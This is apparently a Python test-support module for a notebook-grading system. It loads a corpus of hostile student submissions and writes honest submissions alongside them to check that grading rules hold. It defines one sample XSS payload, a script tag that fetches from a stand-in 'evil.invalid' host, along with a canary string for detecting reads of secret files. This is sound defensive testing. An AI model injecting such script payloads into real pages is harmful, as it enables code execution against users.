"""Hostile submissions: what each tries, what must come of it, and how to see that it has won.

An attack is a small file in ``files/``. Its docstring says what it tries; then which one
rule of the product stops it (``Rule:``, a name of ``page_rules.py``), what its student must
get all the same (``Required:``, a word of ``DUE``), and what shows that it has won where
the rule is off (``Wins:``, a word of ``page_evidence.py``). Where a second wall stands
behind the rule, ``Behind:`` names it: then either wall alone must stop the attack, and
without both it must win. Its function ``attack`` writes the submission.
"""

from __future__ import annotations

import copy
import importlib
import json
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

from tests.notebooks.write import FEATURES as QUADRATIC
from tests.notebooks.write import LOSS, SETUP, WRONG

HERE = Path(__file__).parent / "files"
ROOT = Path(__file__).resolve().parents[2]
UNIT = "01_linear_regression"
NOTEBOOK = f"{UNIT}.ipynb"
CANARY = "canary-7f1c9a3e"
"""Stands in the seed and in every file of the teacher's that an attack may want to read."""

RUN = "<script>document.title='pwned';fetch('http://evil.invalid/')</script>"
"""What must run nowhere."""

GRADED = "graded"
DUE: dict[str, tuple[float, str]] = {
    "same-marks": (8.0, GRADED),
    "wrong-as-ever": (5.0, GRADED),
    "loses-the-exercise": (2.0, GRADED),
    "unreadable": (0.0, "unreadable"),
}
"""The marks that a submission must get, of 20, and its status."""

Notebook = dict[str, Any]


@dataclass(frozen=True)
class Desk:
    """Where an attacker sits: a place in the class, beside honest students."""

    root: Path
    """The course: ``.grading_seed``, ``solutions/``, ``submitted/``."""
    student: str

    @property
    def submitted(self) -> Path:
        return self.root / "submitted"

    @property
    def folder(self) -> Path:
        """The student's folder of the unit, made when it is first asked for."""
        place = self.of(self.student)
        place.mkdir(parents=True, exist_ok=True)
        return place

    def of(self, student: str) -> Path:
        """A student's folder of the unit."""
        return self.submitted / student / UNIT

    def hand_in(self, notebook: Notebook | str | bytes, name: str = NOTEBOOK) -> Path:
        """Write a notebook, or what is handed in as one."""
        text = json.dumps(notebook) if isinstance(notebook, dict) else notebook
        path = self.folder / name
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return path


@dataclass(frozen=True)
class Attack:
    """One file of the corpus, read."""

    name: str
    tries: str
    rule: str
    required: str
    wins: str
    behind: str
    student: str
    write: Callable[[Desk], None]

    def hand_in(self, root: Path) -> None:
        """Write the submission into the class below ``root``."""
        self.write(Desk(root, self.student))


def code(source: str) -> Notebook:
    """A code cell as Jupyter would save it."""
    return {
        "cell_type": "code",
        "execution_count": None,
        "metadata": {},
        "outputs": [],
        "source": source,
    }


def words(source: str) -> Notebook:
    """A Markdown cell."""
    return {"cell_type": "markdown", "metadata": {}, "source": source}


def notebook(cells: Iterable[Notebook]) -> Notebook:
    """A notebook of these cells."""
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    numbered = [{"id": f"c{n}", **cell} for n, cell in enumerate(cells)]
    about = {"kernelspec": kernel}
    return {"cells": numbered, "metadata": about, "nbformat": 4, "nbformat_minor": 5}


@cache
def released() -> dict[str, Notebook]:
    """The cells of the notebook that students get, by id."""
    path = ROOT / "course" / UNIT / NOTEBOOK
    cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
    return {cell["id"]: cell for cell in cells}


def given(name: str) -> Notebook:
    """A cell as it was given out, with its metadata."""
    return copy.deepcopy(released()[name])


def honest(
    loss: str = LOSS,
    answer: str = "A *mean* does not grow with N.",
    last: Iterable[Notebook] = (),
) -> Notebook:
    """A notebook of 8 points: two exercises right, one question answered, the rest not begun."""
    cells = [
        code(SETUP),
        code(QUADRATIC),
        given("quadratic-features"),
        {**given("mse-loss-answer"), "source": loss},
        given("mse-loss"),
        given("mean-or-sum-question"),
        {**given("mean-or-sum"), "source": answer},
        given("standardize"),
        *last,
    ]
    return notebook(cells)


def raising(said: str) -> Notebook:
    """An honest notebook but for one cell, whose answer stops with these words."""
    return honest(loss=f"raise ValueError({said!r})\n{LOSS}")


HONEST: dict[str, Callable[[], Notebook]] = {
    "ada": honest,
    "bob": lambda: honest(loss=WRONG),
}
"""The rest of the class: all right, and a factor missing."""


def honest_class(root: Path) -> None:
    """Write what the honest students hand in, with their times."""
    for student, make in HONEST.items():
        desk = Desk(root, student)
        desk.hand_in(make())
        (desk.folder / "timestamp.txt").write_text("2026-01-31 23:59:00 UTC")


_FIELD = re.compile(r"^(Rule|Required|Wins|Behind): *(.+)$", re.MULTILINE)


def read(path: Path) -> Attack:
    """One file of the corpus; an ``AssertionError`` says what it lacks."""
    module = importlib.import_module(f"tests.attacks.files.{path.stem}")
    said = module.__doc__ or ""
    fields = dict(_FIELD.findall(said))
    lacks = {"Rule", "Required", "Wins"} - fields.keys()
    assert not lacks, f"{path.name} does not say: {', '.join(sorted(lacks))}"
    return Attack(
        name=path.stem,
        tries=said.split("\n")[0],
        rule=fields["Rule"],
        required=fields["Required"],
        wins=fields["Wins"],
        behind=fields.get("Behind", ""),
        student=getattr(module, "STUDENT", path.stem),
        write=module.attack,
    )


@cache
def corpus() -> tuple[Attack, ...]:
    """Every attack, sorted by name."""
    return tuple(read(path) for path in sorted(HERE.glob("*.py")) if path.stem != "__init__")
